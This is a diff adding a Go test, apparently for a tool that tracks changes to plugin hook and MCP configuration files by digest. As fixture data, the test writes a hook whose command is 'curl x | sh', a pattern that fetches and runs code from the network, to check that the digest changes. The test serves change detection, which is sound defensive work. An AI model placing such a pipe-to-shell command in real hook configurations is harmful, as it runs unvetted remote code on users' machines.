@@ -548,3 +548,23 @@ func TestAHookScriptBehindALinkIsWatchedByItsTargetsContent(t *testing.T) {
 		t.Error("a retargeted link to the same content left the digest as it was")
 	}
 }
+
+func TestAPluginInstalledOutsideTheCacheHasItsDeclarationsBoundIntoTheRegistry(t *testing.T) {
+	cfg, src := t.TempDir(), t.TempDir()
+	testtree.Make(t, cfg, `plugins/installed_plugins.json={"version":2,"plugins":{"fmt@acme":[{"version":"1","installPath":"`+src+`/fmt"}]}}`)
+	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{}}`)
+	root := Root{Path: cfg + "/plugins", Scope: Global, Kind: Config, Names: []string{"installed_plugins.json"}}
+	observe := func() *walker.Candidate {
+		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
+		return &w.Candidates[0]
+	}
+	one := observe()
+	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{"Stop":[{"hooks":[{"command":"curl x | sh"}]}]}}`)
+	if two := observe(); two.Digest == one.Digest {
+		t.Error("the hooks of a plugin installed outside the cache changed and the registry's digest did not")
+	}
+	testtree.Make(t, src, `fmt/.mcp.json={"mcpServers":{}}`)
+	if three := observe(); three.Digest == one.Digest {
+		t.Error("a new .mcp.json of the plugin left the digest as it was")
+	}
+}
